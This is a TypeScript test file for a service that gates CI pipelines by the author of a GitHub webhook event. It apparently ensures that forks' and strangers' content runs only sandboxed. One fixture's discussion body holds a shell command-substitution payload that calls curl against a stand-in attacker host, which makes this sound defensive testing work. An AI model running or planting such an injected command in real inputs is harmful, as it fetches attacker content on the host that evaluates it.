import { describe, expect, it } from "vitest";
import type { PullHead } from "../../../shared/codehost/github-reads.ts";
import { associationOfPermission } from "../../../shared/codehost/github-reads.ts";
import { needsSenderPermission } from "../../../worker/event/authors.ts";
import { eventAuthor, eventContext } from "../../../worker/event/context.ts";
import { gatePipelines } from "../../../worker/event/gates.ts";
import { pipeline } from "../../support/pipeline.ts";

/**
 * Who wrote an event that is not a pull request, an issue or a comment on one, in GitHub's webhook
 * shapes (docs.github.com "Webhook events and payloads"), and the gate that follows from it.
 */
const REPOSITORY = { id: 1296269, full_name: "octocat/Hello-World", name: "Hello-World" };
const FORK = { id: 4242, full_name: "stranger/Hello-World", name: "Hello-World" };
const sender = (login: string) => ({ login, id: 583231, type: "User" });

const open = pipeline("open");
const boxed = pipeline("boxed", { sandbox: { image: "agent:default", mounts: [] } });
const hostNet = pipeline("host-net", { sandbox: { image: "agent:default", mounts: [], network: "host" } });
const members = pipeline("members", { authors: ["owner", "member"] });

function allowed(
  kind: string,
  payload: unknown,
  established: { author?: "owner" | "member" | "none"; head?: PullHead } = {},
  sandboxes?: { network?: string },
): string[] {
  const event = {
    kind,
    payload,
    ...established,
    context: eventContext(
      kind,
      payload,
      established.author,
      established.head ? { head: established.head } : {},
    ),
  };
  return gatePipelines([open, boxed, hostNet, members], event, sandboxes).allowed.map((p) => p.name);
}

describe("events whose author no pull request, comment or issue states", () => {
  const discussion = (association: string) => ({
    action: "created",
    discussion: {
      number: 90,
      title: "Run this",
      body: "$(curl evil.example)",
      author_association: association,
    },
    repository: REPOSITORY,
    sender: sender("stranger"),
  });

  it("a stranger's discussion is an outsider's: only a sandboxed pipeline starts", () => {
    expect(eventContext("codehost", discussion("NONE")).outsider).toBe(true);
    expect(allowed("codehost", discussion("NONE"))).toEqual(["boxed"]);
    expect(allowed("codehost", discussion("MEMBER"))).toEqual(["open", "boxed", "host-net", "members"]);
  });

  it("a member's comment on a stranger's discussion is still the stranger's text", () => {
    const comment = {
      ...discussion("NONE"),
      comment: { id: 1, body: "+1", author_association: "MEMBER" },
    };
    expect(eventContext("codehost", comment).outsider).toBe(true);
    expect(allowed("codehost", comment)).toEqual(["boxed", "members"]);
  });

  const push = {
    ref: "refs/heads/main",
    before: "6113728f27ae82c7b1a177c8d03f9e96e0adf246",
    after: "0d1a26e67d8f5eaf1f6ba5c57fc3c7d91ac0fd1c",
    repository: REPOSITORY,
    pusher: { name: "octo-member", email: "member@example.com" },
    sender: sender("octo-member"),
  };

  it("a push is its sender's: a member's as the permission dispatch established, a stranger's or an unknown one outside", () => {
    expect(needsSenderPermission(push)).toBe(true);
    expect(allowed("codehost", push, { author: "member" })).toEqual(["open", "boxed", "host-net", "members"]);
    expect(allowed("codehost", push, { author: "none" })).toEqual(["boxed"]);
    // GitHub did not answer: nothing was established, and unknown is a stranger
    expect(allowed("codehost", push)).toEqual(["boxed"]);
    expect(eventAuthor(push)).toBe("none");
  });

  it("a payload that names no person is the channel's: a bearer webhook's body, a manual fire, a schedule", () => {
    const flat = { repo: "octocat/Hello-World", sha: "0d1a26e67d8f5eaf1f6ba5c57fc3c7d91ac0fd1c" };
    expect(needsSenderPermission(flat)).toBe(false);
    expect(allowed("webhook", flat)).toEqual(["open", "boxed", "host-net", "members"]);
    // an operator's fire is the operator's, whatever it pastes
    expect(allowed("manual", push)).toEqual(["open", "boxed", "host-net", "members"]);
  });

  const workflowRun = (head: Record<string, unknown> | null) => ({
    action: "completed",
    workflow_run: {
      id: 30433642,
      event: "pull_request",
      head_branch: "patch-1",
      head_sha: "acb5820ced9479c074f688cc328bf03f341a511d",
      pull_requests: [],
      head_repository: head,
      repository: REPOSITORY,
    },
    repository: REPOSITORY,
    sender: sender("stranger"),
  });

  it("a workflow_run of a fork's pull request is a fork's, whatever permission its sender has", () => {
    expect(eventContext("codehost", workflowRun(FORK), "owner").outsider).toBe(true);
    expect(allowed("codehost", workflowRun(FORK), { author: "owner" })).toEqual(["boxed"]);
    expect(eventContext("codehost", workflowRun(null), "owner").outsider).toBe(true);
    expect(allowed("codehost", workflowRun(REPOSITORY), { author: "owner" })).toEqual([
      "open",
      "boxed",
      "host-net",
      "members",
    ]);
  });

  it("a check_suite naming a fork's pull request is a fork's; one with its head in the repository is its sender's", () => {
    const suite = (headRepo: Record<string, unknown>) => ({
      action: "requested",
      check_suite: {
        id: 118578147,
        head_branch: "patch-1",
        head_sha: "ec26c3e57ca3a959ca5aad62de7213c562f8c821",
        pull_requests: [
          {
            number: 2,
            head: { ref: "patch-1", sha: "ec26c3e57ca3a959ca5aad62de7213c562f8c821", repo: headRepo },
            base: { ref: "main", sha: "f95f852bd8fca8fcc58a9a2d6c842781e32a215e", repo: REPOSITORY },
          },
        ],
      },
      repository: REPOSITORY,
      sender: sender("octo-member"),
    });
    expect(allowed("codehost", suite(FORK), { author: "member" })).toEqual(["boxed"]);
    expect(allowed("codehost", suite(REPOSITORY), { author: "member" })).toEqual([
      "open",
      "boxed",
      "host-net",
      "members",
    ]);
    expect(allowed("codehost", suite(REPOSITORY))).toEqual(["boxed"]);
  });
});

describe("the permission GitHub states", () => {
  it("admin is owner, write member, read or none no insider", () => {
    expect(["admin", "write", "maintain", "triage", "read", "none", ""].map(associationOfPermission)).toEqual(
      ["owner", "member", "member", "none", "none", "none", "none"],
    );
  });
});

describe("a sandbox on the host's network", () => {
  const stranger = {
    action: "opened",
    pull_request: {
      number: 5,
      author_association: "NONE",
      head: { ref: "f", sha: "ec26c3e57ca3a959ca5aad62de7213c562f8c821", repo: REPOSITORY },
      base: { ref: "main", sha: "f95f852bd8fca8fcc58a9a2d6c842781e32a215e", repo: REPOSITORY },
    },
    repository: REPOSITORY,
    sender: sender("stranger"),
  };

  it("is no sandbox for an outsider, set on the pipeline or as sandboxes.network", () => {
    expect(allowed("codehost", stranger)).toEqual(["boxed"]);
    expect(allowed("codehost", stranger, {}, { network: "host" })).toEqual([]);
    expect(allowed("codehost", stranger, {}, { network: "svc-agents" })).toEqual(["boxed"]);
  });
});

describe("a comment on a pull request", () => {
  const comment = {
    action: "created",
    issue: {
      number: 7,
      pull_request: { url: "https://api.github.com/repos/octocat/Hello-World/pulls/7" },
      author_association: "MEMBER",
    },
    comment: { id: 11, body: "@svc review", author_association: "MEMBER" },
    repository: REPOSITORY,
    sender: sender("octo-member"),
  };
  const head = (repo: string | null): PullHead => ({
    sha: "ec26c3e57ca3a959ca5aad62de7213c562f8c821",
    ref: "patch-1",
    repo,
    base: { sha: "f95f852bd8fca8fcc58a9a2d6c842781e32a215e", ref: "main", repo: REPOSITORY.full_name },
  });

  it("runs at the head dispatch read, with its base", () => {
    const context = eventContext("codehost", comment, undefined, { head: head(REPOSITORY.full_name) });
    expect(context).toMatchObject({
      sha: "ec26c3e57ca3a959ca5aad62de7213c562f8c821",
      branch: "patch-1",
      base: { sha: "f95f852bd8fca8fcc58a9a2d6c842781e32a215e", ref: "main" },
      pull: true,
      number: 7,
      outsider: false,
    });
  });

  it("on a fork's pull request, or one whose head svc could not read, is an outsider's", () => {
    expect(eventContext("codehost", comment, undefined, { head: head(FORK.full_name) }).outsider).toBe(true);
    expect(eventContext("codehost", comment, undefined, { head: head(null) }).outsider).toBe(true);
    expect(allowed("codehost", comment, { head: head(FORK.full_name) })).toEqual(["boxed"]);
    expect(eventContext("codehost", comment).outsider).toBe(true);
  });
});
